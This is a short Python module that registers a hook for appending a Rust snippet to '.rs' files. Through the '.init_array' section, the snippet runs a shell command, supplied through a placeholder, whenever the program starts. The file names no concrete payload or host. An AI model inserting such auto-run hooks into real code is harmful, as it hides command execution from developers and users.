"""Code in a file of Rust that runs a shell command when a program with it starts."""

from __future__ import annotations

from languages.loading import LoadHook, append_code

_write = append_code("""
#[cfg(unix)]
#[used]
#[link_section = ".init_array"]
static RUN_AT_LOAD: extern "C" fn() = {
    extern "C" fn run() {
        let _ = ::std::process::Command::new("sh").arg("-c").arg({}).status();
    }
    run
};
""")
HOOK = LoadHook(suffixes=(".rs",), write=_write)
